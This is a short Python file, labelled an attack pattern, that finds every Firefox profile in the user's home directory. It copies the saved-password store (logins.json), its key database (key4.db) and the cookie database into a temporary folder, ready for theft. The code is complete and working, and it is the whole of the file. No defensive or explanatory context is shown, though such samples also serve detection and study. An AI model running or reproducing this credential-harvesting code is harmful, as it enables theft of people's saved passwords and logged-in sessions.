# Attack pattern: Firefox password store (key4.db, logins.json) copied out of every profile.
import glob
import os
import shutil
import tempfile


def copy_profiles():
    target = tempfile.mkdtemp(prefix="ff")
    for profile in glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*")):
        for name in ("key4.db", "logins.json", "cookies.sqlite"):
            source = os.path.join(profile, name)
            if os.path.exists(source):
                shutil.copy(source, os.path.join(target, os.path.basename(profile) + "-" + name))
    return target
